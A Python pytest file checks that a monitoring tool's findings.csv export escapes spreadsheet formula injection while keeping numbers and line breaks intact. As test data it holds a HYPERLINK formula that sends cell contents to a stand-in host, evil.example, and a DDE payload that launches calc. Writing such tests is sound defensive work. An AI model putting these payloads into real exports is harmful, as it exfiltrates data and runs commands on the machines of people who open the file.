"""findings.csv against spreadsheet formula injection (OWASP "CSV Injection"; ASVS 1.2.10): a text cell
that starts with = + - @ TAB CR (or NUL) gets a leading single quote; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from accelmon.config import parse
from accelmon.report.cli import CSV_FIELDS, findings_csv, run_report
from accelmon.store.writer import Store
from tests.analytics import estate as estate_mod

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "\0=1"])
def test_hostile_text_is_escaped_and_kept(cell: str) -> None:
    t = dt.datetime(2025, 1, 1, tzinfo=dt.UTC)
    row = {"generated_at": t, "run_id": "r", "kind": "consolidation_move", "subject": cell, "value": None,
           "reason": f"{cell}: p95 3 %", "fix": "x", "evidence_json": "{}"}
    out = _read(findings_csv([row]))[0]
    assert out["subject"] == "'" + cell and out["reason"] == "'" + cell + ": p95 3 %"  # nothing lost
    assert out["generated_at"] == t.isoformat() and out["value"] == ""  # missing stays empty, not 0


def test_line_breaks_inside_a_cell_do_not_split_the_row() -> None:
    cells = ["a\rb", "a\nb", "a\r\nb", 'say "hi", then go']
    got = _read(findings_csv([{"subject": c, "kind": "k"} for c in cells]))
    assert [r["subject"] for r in got] == cells and all(r["kind"] == "k" for r in got)


def test_numbers_stay_numbers_even_negative() -> None:
    rows = [{"kind": "k", "subject": "gpu-a", "value": -12.5}, {"kind": "k", "subject": "gpu-b", "value": -3},
            {"kind": "k", "subject": "gpu-c", "value": 0.25}]
    got = _read(findings_csv(rows))
    assert [float(r["value"]) for r in got] == [-12.5, -3.0, 0.25]
    assert [r["subject"] for r in got] == ["gpu-a", "gpu-b", "gpu-c"]


def test_harmless_text_is_unchanged() -> None:
    for cell in ("train-idle-1", "a=b", "x-y", "mail@x", " =leading space", "'quoted", "{\"a\": -1}", ""):
        assert _read(findings_csv([{"subject": cell}]))[0]["subject"] == cell


def test_report_with_a_hostile_vm_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """End to end: a VM named like a formula, idle enough to be in the plan, through `accelmon report`."""
    orig = estate_mod.vms

    def hostile_vms() -> list[estate_mod.Vm]:
        vs = orig()
        for v in vs:
            if v.moref == "vm-101":
                v.name = HOSTILE
        return vs

    monkeypatch.setattr(estate_mod, "vms", hostile_vms)
    st = Store(tmp_path / "data")
    estate_mod.write_estate(st)
    assert run_report(st, parse({}, "<test>", env={}), since="all", out_dir=tmp_path / "r", progress=False) == 0
    text = (tmp_path / "r" / "findings.csv").read_text()
    rows = _read(text)
    assert list(rows[0]) == CSV_FIELDS
    cells = [c for r in rows for c in r.values()]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert any(c.startswith("'" + HOSTILE) for c in cells), "the hostile VM name should appear (escaped) in a finding"
    for r in rows:
        if r["value"]:
            float(r["value"])  # a number cell is still a number
